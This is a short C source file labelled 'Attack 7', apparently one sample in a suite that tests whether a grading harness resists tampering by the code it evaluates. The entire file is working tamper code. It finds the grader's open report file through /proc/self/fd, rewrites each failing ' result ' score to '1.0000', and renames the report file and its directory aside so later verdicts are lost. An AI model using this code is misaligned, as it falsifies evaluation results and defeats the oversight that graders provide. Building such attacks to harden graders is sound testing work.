
/* Attack 7 (appended to the stub, run by its ring_all_reduce: replay.sh): find the report
 * channel among the open files and turn each verdict the grader already wrote into full
 * marks in place, or else move the channel aside so that later lines go elsewhere. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void attack_run(void)
{
    static char text[1 << 20];
    char link[64], path[4096] = "", aside[4200];
    for (int fd = 3; fd < 256 && !path[0]; fd++) {
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t l = readlink(link, path, sizeof path - 1);
        path[l > 0 ? l : 0] = '\0';
        if (!strstr(path, "report")) path[0] = '\0';
    }
    if (!path[0]) return;
    FILE *f = fopen(path, "r+");
    if (f) {
        size_t n = fread(text, 1, sizeof text - 1, f);
        text[n] = '\0';
        for (char *r = strstr(text, " result "); r; r = strstr(r + 1, " result ")) {
            char *sp = strchr(r + 8, ' ');
            if (sp && sp[1] == '0') memcpy(sp + 1, "1.0000", 6);
        }
        rewind(f);
        fwrite(text, 1, n, f);
        fclose(f);
    }
    snprintf(aside, sizeof aside, "%s.aside", path);
    rename(path, aside);
    *strrchr(path, '/') = '\0';
    snprintf(aside, sizeof aside, "%s.aside", path);
    rename(path, aside);
}
